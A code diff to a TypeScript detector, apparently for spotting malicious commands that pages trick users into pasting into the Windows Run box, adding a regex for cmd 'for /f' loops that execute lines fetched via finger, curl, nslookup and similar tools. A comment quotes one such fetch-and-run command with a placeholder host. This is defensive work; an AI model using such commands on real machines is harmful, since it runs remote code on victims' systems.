@@ -148,6 +148,13 @@ const SCRIPT_SCHEME = /\b(?:vbscript|javascript):|\bdata:text\/html|\babout:[^\n
 const DOWNLOAD_SUBSTITUTED =
   /(?:\b(?:ba|z|k|da)?sh\s+(?:-\w+\s+)*["']?|\beval\s+["']?)\x60\s*(?:curl|wget)\b|^\s*\$\(\s*(?:curl|wget)\b/i;
 
+/**
+ * cmd running each line another machine sends: `for /f "skip=8 delims=" %h in ('finger
+ * user@host') do call %h` (the finger relays of 2026, Unit 42), or the same over curl, nslookup.
+ */
+const RUNS_FETCHED_LINES =
+  /\bfor\s+\/f\b[^\n]*?\bin\s*\(\s*['"\x60][^)\n]*\b(?:finger|curl|wget|nslookup|certutil|bitsadmin|powershell|iwr|irm)\b[^)\n]*\)\s*do\s+(?:@?call\s+|cmd(?:\.exe)?\s+\/[ck]\s+)?%%?\w\b/i;
+
 /** A comment after a command, which the Run box shows instead of the command (`# I am not a robot`). */
 const TRAILING_COMMENT = /(?:\s#|\s::|\s&\s*rem\s|\s<#)[^\n]*$/i;
 
@@ -169,7 +176,8 @@ export function commandShell(text: string): CommandShell | null {
     ALWAYS_RUNS.test(flat) ||
     SCANNER_OFF.test(flat) ||
     PATH_WITH_COMMENT.test(flat) ||
-    SAVES_PROGRAM.test(flat)
+    SAVES_PROGRAM.test(flat) ||
+    RUNS_FETCHED_LINES.test(flat)
   )
     return 'windows';
   const rest = (launcher: RegExp) => {
